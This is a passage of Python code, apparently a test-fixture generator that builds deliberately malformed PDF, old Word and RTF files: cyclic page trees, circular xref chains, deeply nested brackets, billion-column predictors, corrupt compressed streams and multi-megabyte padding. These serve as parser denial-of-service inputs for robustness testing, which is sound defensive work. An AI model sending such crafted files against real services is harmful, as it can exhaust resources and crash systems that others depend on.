            b"/Resources << /XObject << /X %d 0 R >> /Font << /F 3 0 R >> >> /Length %d >>\n"
            b"stream\n%s\nendstream" % (n + 21, len(content), content)
        )
    made = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in figures.items())
    return pdf(b"/X Do").replace(b"/Font <<", b"/XObject << /X 20 0 R >> /Font <<") + made


@of("pdf")
def letters_from_zero_to_four_billion() -> bytes:
    cmap = b"begincmap 1 beginbfrange <00000000> <FFFFFFFF> <00000041> endbfrange endcmap"
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap)
    made = pdf(b"BT /F 9 Tf (x) Tj ET", more=b"9 0 obj\n%s\nendobj\n" % stream)
    return made.replace(b"/BaseFont", b"/ToUnicode 9 0 R /BaseFont").replace(b"startxref", b"x")


@of("pdf")
def a_tree_of_pages_that_bites_its_tail() -> bytes:
    return pdf(b"BT ET").replace(b"/Kids [4 0 R]", b"/Kids [2 0 R 4 0 R 2 0 R]")


@of("pdf")
def twenty_thousand_pages() -> bytes:
    return pdf(b"BT /F 9 Tf 9 9 Td (x) Tj ET").replace(
        b"/Kids [4 0 R]", b"/Kids [%s]" % (b"4 0 R " * 20_000)
    )


@of("pdf")
def four_hundred_pages() -> bytes:
    return pdf(*[b"BT /F 9 Tf 9 9 Td (Bo tieu chi 3) Tj ET"] * 400)


@of("pdf")
def tables_of_places_in_a_circle() -> bytes:
    data = pdf(b"BT ET")
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root", b"/Prev %d /Root" % at)


@of("pdf")
def brackets_without_end() -> bytes:
    return pdf(b"[" * 500_000 + b"<<" * 500_000 + b"(" * 500_000)


@of("pdf")
def a_catalogue_without_end() -> bytes:
    return pdf(b"BT ET").replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 200_000)


@of("pdf")
def a_predictor_of_a_billion_columns() -> bytes:
    params = b"/DecodeParms << /Predictor 12 /Columns 1000000000 /Colors 99 >>"
    block = zlib.compress(b"BT ET" * 1000)
    how = b"<< /Filter /FlateDecode %s /Length %d >>" % (params, len(block))
    stream = how + b"\nstream\n%s\nendstream" % block
    return pdf(b"BT ET").replace(b"<< /Length 5 >>\nstream\nBT ET\nendstream", stream)


@of("pdf")
def broken_packing_of_5_megabytes() -> bytes:
    block = zlib.compress(Random(1).randbytes(5 * MEGA), 0)[:-4] + b"xxxx"
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(block), block)
    return pdf(b"BT ET").replace(b"<< /Length 5 >>\nstream\nBT ET\nendstream", stream)


@of("pdf")
def text_at_infinity() -> bytes:
    return pdf(b"BT /F 1e300 Tf 1e300 -1e300 Td (x) Tj 1e-300 0 0 0 1e308 9e999 Tm (y) Tj ET")


@of("pdf")
def a_page_as_large_as_a_country() -> bytes:
    return pdf(b"BT /F 9 Tf 9 9 Td (x) Tj ET").replace(b"595 842", b"1e12 1e12")


@of("pdf")
def twenty_megabytes_of_letters() -> bytes:
    return pdf(b"BT /F 9 Tf 9 9 Td " + b"(Bo tieu chi so 3) Tj " * 900_000 + b"ET")


@of("pdf")
def forty_megabytes_of_nothing() -> bytes:
    return b"%PDF-1.7\n" + b"1 0 obj\n" * 5 * MEGA


# --- Office before 2007 ---------------------------------------------------------------------------


@of("old")
def forty_megabytes_of_an_old_document() -> bytes:
    return compound({"WordDocument": bytes(40 * MEGA)})


@of("old")
def rich_text_in_rich_text() -> bytes:
    return b"{\\rtf1" + b"{" * 10 * MEGA
